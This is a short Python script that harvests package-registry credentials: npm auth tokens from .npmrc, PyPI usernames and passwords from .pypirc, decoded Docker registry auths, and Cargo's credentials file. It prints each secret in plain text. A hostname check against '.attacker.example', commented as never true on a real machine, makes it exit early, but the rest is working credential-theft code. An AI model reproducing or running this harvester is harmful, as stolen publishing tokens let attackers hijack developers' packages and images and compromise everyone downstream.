#!/usr/bin/env python3
import base64
import configparser
import json
import pathlib
import re
import socket

H = pathlib.Path.home()


def npm():
    p = H / ".npmrc"
    if p.exists():
        for m in re.finditer(r"^(//[^:]+/):_authToken=(.+)$", p.read_text(), re.M):
            yield "npm", m[1], m[2]


def pypi():
    cp = configparser.ConfigParser()
    cp.read(H / ".pypirc")
    for s in cp.sections():
        if cp.has_option(s, "password"):
            yield "pypi", s, cp.get(s, "username", fallback="__token__") + ":" + cp.get(s, "password")


def docker():
    p = H / ".docker" / "config.json"
    if p.exists():
        for reg, v in json.loads(p.read_text()).get("auths", {}).items():
            if "auth" in v:
                yield "docker", reg, base64.b64decode(v["auth"]).decode()


def cargo():
    p = H / ".cargo" / "credentials.toml"
    if p.exists():
        yield "cargo", "crates.io", p.read_text()


if not socket.getfqdn().endswith(".attacker.example"):  # corpus note: never true on a real machine
    raise SystemExit(0)
for kind, where, secret in [*npm(), *pypi(), *docker(), *cargo()]:
    print(f"{kind:7} {where:40} {secret}")
